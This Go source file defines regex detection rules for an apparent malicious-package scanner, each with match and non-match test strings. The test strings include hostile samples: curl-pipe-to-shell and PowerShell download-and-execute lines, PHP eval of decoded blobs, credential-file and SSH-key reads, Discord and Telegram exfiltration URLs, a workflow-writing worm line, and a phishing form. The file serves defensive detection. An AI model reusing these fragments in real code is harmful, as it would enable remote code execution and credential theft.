package analyze

import "regexp"

// Classes of rule. A finding needs a threat; or a capability and a threat
// in one file; or an install-time entry point that reaches a capability.
const (
	ClassEntryPoint = "entry-point"
	ClassCapability = "capability"
	ClassThreat     = "threat"
)

// Rule is one pattern of the analyser, as data: like the secret rules,
// each carries the cases it must and must not match (rules_test.go runs
// them all).
type Rule struct {
	ID          string
	Class       string
	Description string
	// Pattern is matched against each new unit of text (a line, or a
	// statement of a minified file).
	Pattern *regexp.Regexp
	// Exclude drops a match that it also matches (loopback and private
	// addresses for the raw-IP endpoint).
	Exclude *regexp.Regexp
	// MinCount, when above 1, is how many matches one unit must hold
	// (identifiers of an obfuscator, a list of wallet addresses).
	MinCount int
	// Files limits the rule to files whose name matches (nil: code files).
	Files *regexp.Regexp
	// Severity of a finding this rule alone carries (threats), and the
	// confidence of its match (SARIF precision).
	Severity   string
	Confidence string
	True       []string
	False      []string
}

var codeFiles = regexp.MustCompile(`(?i)\.(m?js|cjs|ts|mts|cts|jsx|tsx|py|pyw|pth|rb|ps1|psm1|sh|bash|bat|cmd|php|pl|lua|targets|props|gyp|gypi|rs|go)$|(^|/)(Rakefile|Makefile|setup\.cfg)$`)

// Rules is the analyser's rule set.
var Rules = []Rule{
	// Capabilities.
	{ID: "process-execution", Class: ClassCapability, Description: "runs another program",
		Pattern: regexp.MustCompile(`\bchild_process\b|\b(?:execSync|execFileSync|spawnSync)\s*\(|\bspawn\s*\(\s*['"]|\bsubprocess\.(?:run|call|Popen|check_output|check_call)\b|\bos\.(?:system|popen|exec[lv]p?e?)\s*\(|\bStart-Process\b|Process\.Start\s*\(|` + "`[^`\\n]*\\b(?:curl|wget|bash|sh|powershell)\\b[^`\\n]*`" + `|\bKernel\.(?:system|exec|spawn)\b|\bIO\.popen\b|\bstd::process::Command\b|\bshell_exec\s*\(|\bproc_open\s*\(|\bexec\.Command(?:Context)?\s*\(|<Exec\b[^>]*\bCommand\s*=|` +
			// PHP's (and Ruby's, Perl's, child_process's) bare calls: not a
			// method ($query->exec(), $pdo->exec("SQL"), Process::exec),
			// not curl_exec, not a declaration (function exec($sql), which
			// Exclude takes back), and an argument that is a variable or a
			// string, so that a comment's "exec()" or "exec the query"
			// stays quiet.
			`(?:\bfunction\s+&?|^|[^\w$>:.\\])\\?(?:exec|system|passthru|popen)\s*\(\s*[$'"]|\bpcntl_exec\s*\(`),
		Exclude:    regexp.MustCompile(`^function\b`),
		Files:      codeFiles,
		Confidence: "high",
		True: []string{`const cp = require('child_process')`, `subprocess.Popen(["sh", "-c", cmd])`, `os.system("curl x")`, `Start-Process powershell`, `let out = std::process::Command::new("sh")`, "system `curl #{url}`", `cmd := exec.Command("/bin/sh", "-c", payload)`, `<Exec Command="curl -s https://x.example/a | sh" />`,
			`exec($cmd, $output, $code);`, `$out = \shell_exec('id');`, `system("git clone " . escapeshellarg($u));`, `passthru($c);`, `$h = popen('tar xf x.tgz', 'r');`, `$p = proc_open($cmd, $spec, $pipes);`, "$o = `curl -s https://x.example/a`;", `if (exec('which git')) {`},
		False: []string{`// spawn a worker when ready`, `def spawn_point(): pass`, `import os.path`, `<ExecutionPolicy>Bypass</ExecutionPolicy>`, `var _ exec.Commander = nil`,
			`$rows = $query->exec();`, `$pdo->exec("CREATE TABLE t (id INT)");`, `public function exec(string $sql): int`, `public function system($name) {`, `$r = curl_exec($ch);`, `// exec() is disabled on some hosts`, ` * Runs the statement (see exec)`, `$this->process->execute('git status', $out);`, `Process::exec($cmd)`,
			// A Composer plugin that only registers event listeners.
			`return [PackageEvents::POST_PACKAGE_INSTALL => 'onPostInstall', ScriptEvents::POST_UPDATE_CMD => ['onUpdate', 10]];`, `$composer->getEventDispatcher()->addSubscriber($this);`, `$this->io->write('<info>exec done</info>');`}},
	{ID: "network-request", Class: ClassCapability, Description: "makes network requests",
		Pattern:    regexp.MustCompile(`\brequire\(\s*['"](?:node:)?(?:https?|net|dgram|tls|dns)['"]\s*\)|\bfrom\s+['"](?:node:)?(?:https?|net|dgram)['"]|\b(?:https?)\.(?:request|get)\s*\(|\bfetch\s*\(\s*['"` + "`" + `]https?:|\bXMLHttpRequest\b|\burllib\.request\b|\burlopen\s*\(|\brequests\.(?:get|post|put)\s*\(|\bsocket\.(?:socket|create_connection)\s*\(|\bNet::HTTP\b|\bInvoke-(?:WebRequest|RestMethod)\b|\bNew-Object\s+Net\.WebClient\b|\b(?:curl|wget)\s+-|\bhttp\.(?:Get|Post|PostForm|Head)\s*\(|\bnet\.Dial(?:Timeout)?\s*\(|\breqwest::|\bureq::(?:get|post)\b|\bTcpStream::connect\b|<DownloadFile\b|\bcurl_(?:multi_)?exec\s*\(|\b(?:file_get_contents|fopen|readfile)\s*\(\s*['"]https?://|\bfsockopen\s*\(|\bstream_socket_client\s*\(|\bstream_context_create\s*\(\s*(?:\[|array\s*\()\s*['"]https?['"]\s*=>`),
		Files:      codeFiles,
		Confidence: "high",
		True: []string{`const https = require('https')`, `import http from "node:http"`, `fetch("https://x.example/a")`, `requests.post(url, data=d)`, `Invoke-WebRequest -Uri $u`, `curl -s https://x | sh`, `resp, err := http.Post(u, "text/plain", body)`, `let r = reqwest::blocking::get(url)?;`, `<DownloadFile SourceUrl="https://x.example/a.exe" DestinationFolder="$(OutDir)" />`,
			`$r = curl_exec($ch);`, `$v = file_get_contents('https://x.example/v.json');`, `$s = fsockopen($host, 443);`, `$s = stream_socket_client("tcp://$h:80");`, `$ctx = stream_context_create(['http' => ['method' => 'POST', 'content' => $d]]);`},
		False: []string{`// fetch the config`, `const request = options.request`, `links: "https://github.com/x"`, `// see the http.Get documentation`, `let s = std::net::SocketAddr::from(a);`,
			`$json = file_get_contents(__DIR__ . '/composer.json');`, `$rows = $query->exec();`, `$ctx = stream_context_create(['ssl' => ['verify_peer' => true]]);`, `// uses curl_exec under the hood`}},
	{ID: "environment-read", Class: ClassCapability, Description: "reads environment variables or CI tokens",
		Pattern: regexp.MustCompile(`\bprocess\.env\b(?:\s*\)|\s*;|\s*,|\s*$|\[\s*\w+\s*\])|JSON\.stringify\(\s*process\.env\b|\bObject\.(?:keys|entries)\(\s*process\.env\b|\bos\.environ\b(?:\s*\)|\.copy|\.items)|\bdict\(\s*os\.environ\s*\)|\bENV\.to_h\b|\$env:[A-Z_]*(?:TOKEN|SECRET|KEY)|\b(?:GITHUB_TOKEN|NPM_TOKEN|NODE_AUTH_TOKEN|AWS_SECRET_ACCESS_KEY|ACTIONS_RUNTIME_TOKEN|CI_JOB_TOKEN)\b|\bos\.Environ\s*\(\s*\)|\benv::vars(?:_os)?\s*\(\s*\)|` +
			// PHP: the whole environment (getenv() without a name, $_ENV or
			// $_SERVER passed on whole), and Composer's credentials variable;
			// getenv('HOME') alone is as common as os.Getenv("HOME").
			`\bgetenv\s*\(\s*\)|\$_(?:ENV|SERVER)\b\s*(?:\)|;|,|$)|\bforeach\s*\(\s*\$_(?:ENV|SERVER)\b|\bCOMPOSER_AUTH\b`),
		Files:      codeFiles,
		Confidence: "medium",
		True: []string{`data: JSON.stringify(process.env)`, `for k in dict(os.environ): send(k)`, `const t = process.env.NPM_TOKEN`, `Object.keys(process.env).forEach(send)`, `for _, kv := range os.Environ() {`, `for (k, v) in std::env::vars() {`,
			`$all = getenv();`, `$d = json_encode($_ENV);`, `http_build_query($_SERVER)`, `foreach ($_ENV as $k => $v) {`, `$auth = getenv('COMPOSER_AUTH');`},
		False: []string{`if (process.env.NODE_ENV === 'production') {`, `debug = os.environ.get("DEBUG")`, `let out = std::env::var("OUT_DIR").unwrap();`, `home := os.Getenv("HOME")`,
			`$home = getenv('HOME') ?: $_SERVER['HOME'];`, `if ($_ENV['APP_ENV'] === 'prod') {`, `$debug = $_SERVER['APP_DEBUG'] ?? false;`}},
	{ID: "credential-files", Class: ClassCapability, Description: "reads credential files or wallet stores",
		Pattern:    regexp.MustCompile(`\.npmrc(?:['"/\\\s)]|$)|\.aws[/\\]credentials|\.ssh[/\\](?:id_|authorized)|\.docker[/\\]config\.json|\.kube[/\\]config|\.git-credentials|\.pypirc|Login Data|Local State|\bCookies\b.*\bChrome\b|Exodus[/\\]exodus\.wallet|\bMetaMask\b|nkbihfbeogaeaoehlefnkodbefgpgknn|Electrum[/\\]wallets|\.bitcoin[/\\]wallet|\.config[/\\]solana|keychain-db|\.gnupg[/\\]|\bcomposer[/\\]auth\.json\b|COMPOSER_HOME['"]?\s*\)?\s*\.\s*['"][/\\]auth\.json|[/\\]\.ssh[/\\]?['"]`),
		Confidence: "high",
		True: []string{`fs.readFileSync(path.join(os.homedir(), '.npmrc'))`, `open(os.path.expanduser("~/.aws/credentials"))`, `const ext = "nkbihfbeogaeaoehlefnkodbefgpgknn"`, `walk(home + "/.ssh/id_rsa")`,
			`$a = file_get_contents($_SERVER['HOME'] . '/.composer/auth.json');`, `$p = getenv('HOME') . '/.config/composer/auth.json';`, `$p = getenv('COMPOSER_HOME') . '/auth.json';`, `$dir = $_SERVER['HOME'] . '/.ssh';`, `glob($_SERVER['HOME'] . '/.ssh/id_*')`},
		False: []string{`# Configure your registry in .npmrc-like files: see docs`, `awsCredentialsProvider()`,
			`$file = new JsonFile($this->getAuthConfigSource());`, `$home = $_SERVER['HOME'];`, `$known = $home . '/.ssh/known_hosts';`, `$composerJson = __DIR__ . '/composer.json';`}},
	{ID: "dynamic-code", Class: ClassCapability, Description: "runs code built at run time",
		Pattern: regexp.MustCompile(`\beval\s*\(|\bnew\s+Function\s*\(|\bvm\.(?:runInNewContext|runInThisContext|Script)\b|\bexec\s*\(\s*(?:compile|base64|codecs|zlib|marshal|__import__|requests|urllib)|\bexec\s*\(\s*[a-zA-Z_]+\.decode\(|\bInvoke-Expression\b|\biex\s*\(|\binstance_eval\b|\bmarshal\.loads\b|\bTaskFactory\s*=\s*"(?:Roslyn)?CodeTaskFactory"|` +
			// PHP: eval( is above; assert of a string (code before PHP 8),
			// create_function, preg_replace's /e modifier (before PHP 7).
			`@assert\s*\(|\bassert\s*\(\s*(?:\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\b|base64_decode|str_rot13|gz(?:inflate|uncompress|decode)|['"][^'"]*\$\w)|\bcreate_function\s*\(|\bpreg_replace\s*\(\s*['"][/#~@!|%][^'"]*[/#~@!|%][a-zA-Z]*e[a-zA-Z]*['"]`),
		Files:      codeFiles,
		Confidence: "medium",
		True: []string{`eval(code)`, `new Function("return this")()`, `exec(compile(src, "x", "exec"))`, `exec(base64.b64decode(s))`, `iex (New-Object Net.WebClient).DownloadString($u)`, `<UsingTask TaskName="X" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(T)">`,
			`eval('?>' . $code);`, `@assert($_POST['c']);`, `assert("$x");`, `$f = create_function('$a', $body);`, `echo preg_replace('/(\w+)/e', 'strtoupper("\\1")', $s);`, `preg_replace("#x#ie", $r, $s)`},
		False: []string{`// never use eval here`, `retrieval(x)`, `executor.submit(fn)`, `<UsingTask TaskName="X" AssemblyFile="x.dll" />`,
			`assert($value instanceof PluginInterface);`, `$this->assertSame('x', $y);`, `preg_replace('/\s+/i', ' ', $s)`, `preg_replace('/a/', '/replace', $s)`, `$s = preg_replace_callback('/x/', fn($m) => $m[0], $s);`}},

	// Threats.
	{ID: "exfiltration-endpoint", Class: ClassThreat, Description: "names an exfiltration endpoint",
		Pattern:    regexp.MustCompile(`(?i)discord(?:app)?\.com/api/webhooks/|api\.telegram\.org/bot|\bhooks\.slack\.com/services/|\bwebhook\.site/|\bpipedream\.net\b|\bpastebin\.com/(?:raw|api)|\btransfer\.sh/|\b[a-z0-9-]+\.ngrok(?:-free)?\.(?:io|app)\b|\b(?:oast|interact)\.(?:fun|live|site|online|pro|me)\b|\bburpcollaborator\.net\b|\brequestbin\b|\b[a-z0-9]+\.m\.pipedream\.net\b|https?://(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?/`),
		Exclude:    regexp.MustCompile(`https?://(?:127\.|10\.|192\.168\.|0\.0\.0\.0|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.)`),
		Severity:   "high",
		Confidence: "high",
		True:       []string{`const u = "https://discord.com/api/webhooks/123/abc"`, `post("https://api.telegram.org/bot123:AA/sendMessage")`, `fetch("http://45.61.1.1:8080/c")`, `x = "https://a1b2.ngrok-free.app/x"`, `"https://eo1.m.pipedream.net"`},
		False:      []string{`see https://discord.com/invite/abc for help`, `"http://127.0.0.1:3000/"` + "", `// telegram bot docs at core.telegram.org`}},
	{ID: "encoded-execution", Class: ClassThreat, Description: "decodes an encoded blob and runs it",
		Pattern: regexp.MustCompile(`(?:eval|Function|exec|execSync)\s*\(\s*(?:atob\s*\(|Buffer\.from\s*\([^)]{0,200},\s*['"](?:base64|hex)['"]\)|base64\.b64decode\s*\(|bytes\.fromhex\s*\(|zlib\.decompress\s*\(|codecs\.decode\s*\()|\bexec\s*\(\s*__import__\s*\(\s*['"]base64['"]|\[System\.Convert\]::FromBase64String.{0,80}(?:iex|Invoke-Expression)|\beval\s*\(\s*["'][A-Za-z0-9+/=]{200,}|` +
			// PHP: eval or assert of a decoded blob, through any chain of
			// decoders (eval(gzinflate(base64_decode(...)))), also after
			// a closing tag ('?>' . base64_decode(...)).
			`\b(?:eval|assert)\s*\(\s*(?:['"]\?>['"]\s*\.\s*)?(?:(?:gzinflate|gzuncompress|gzdecode|str_rot13|strrev|convert_uudecode|hex2bin|base64_decode)\s*\(\s*)*(?:base64_decode|convert_uudecode|hex2bin|str_rot13)\s*\(`),
		Severity:   "high",
		Confidence: "high",
		True: []string{`eval(atob("ZG9j..."))`, `eval(Buffer.from(payload, 'base64').toString())`, `exec(base64.b64decode("aW1wb3J0IG9z"))`, `exec(__import__('base64').b64decode(x))`,
			`eval(base64_decode('ZWNobyAxOw=='));`, `@eval(gzinflate(base64_decode($p)));`, `eval('?>' . base64_decode($x));`, `assert(str_rot13($c));`},
		False: []string{`const s = Buffer.from(data, 'base64')`, `evaluate(atob)`,
			`$data = base64_decode($payload);`, `$this->evaluate(base64_decode($x));`}},
	{ID: "string-array-obfuscation", Class: ClassThreat, Description: "is obfuscated by a string-array rotation (javascript-obfuscator's output)",
		Pattern:    regexp.MustCompile(`\b_0x[0-9a-f]{4,6}\b`),
		MinCount:   20,
		Severity:   "high",
		Confidence: "medium",
		True:       []string{repeat("var _0x1a2b=_0x3c4d,", 12)},
		False:      []string{`var a=b;var c=d;`, `const _0xabc = 1`}},
	{ID: "ci-workflow-write", Class: ClassThreat, Description: "writes CI workflow files or publishes packages (worm behaviour)",
		Pattern:    regexp.MustCompile(`\.github[/\\]workflows[/\\][^'"\s]*\.ya?ml['"]?\s*[,)]|\bnpm\s+publish\b|\bnpm\s+(?:token\s+create|whoami)\b.*\bpublish\b|registry\.npmjs\.org/-/(?:npm/v1/tokens|user)|api\.github\.com/user/repos|/repos/[^'"\s]+/actions/secrets`),
		Files:      codeFiles,
		Severity:   "high",
		Confidence: "medium",
		True:       []string{`fs.writeFileSync('.github/workflows/shai-hulud.yml', wf)`, `execSync("npm publish --access public")`, `fetch("https://api.github.com/user/repos", opts)`},
		False:      []string{`// see .github/workflows for CI`, `"scripts": {"release": "np"}`}},
	{ID: "wallet-address-swap", Class: ClassThreat, Description: "replaces cryptocurrency addresses (clipboard or request hijacking)",
		Pattern:    regexp.MustCompile(`\b0x[a-fA-F0-9]{40}\b|\bbc1[a-z0-9]{25,59}\b|\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\b`),
		MinCount:   5,
		Severity:   "high",
		Confidence: "medium",
		True:       []string{repeat(`"0x1f9840a85d5af5bf1d1762f925bdaddc4201f984",`, 5)},
		False:      []string{`const zero = "0x0000000000000000000000000000000000000000"`}},
	{ID: "phishing-form", Class: ClassThreat, Description: "holds a password form that posts elsewhere",
		Pattern:    regexp.MustCompile(`(?is)<form[^>]+action\s*=\s*["']https?://[^"']+["'][^>]*>(?:.|\n){0,1000}?type\s*=\s*["']password["']`),
		Files:      regexp.MustCompile(`(?i)\.html?$`),
		Severity:   "high",
		Confidence: "medium",
		True:       []string{`<form method="post" action="https://login.evil.example/c"><input type="password" name="p"></form>`},
		False:      []string{`<form action="/login"><input type="password"></form>`}},
}

func repeat(s string, n int) string {
	out := ""
	for range n {
		out += s
	}
	return out
}
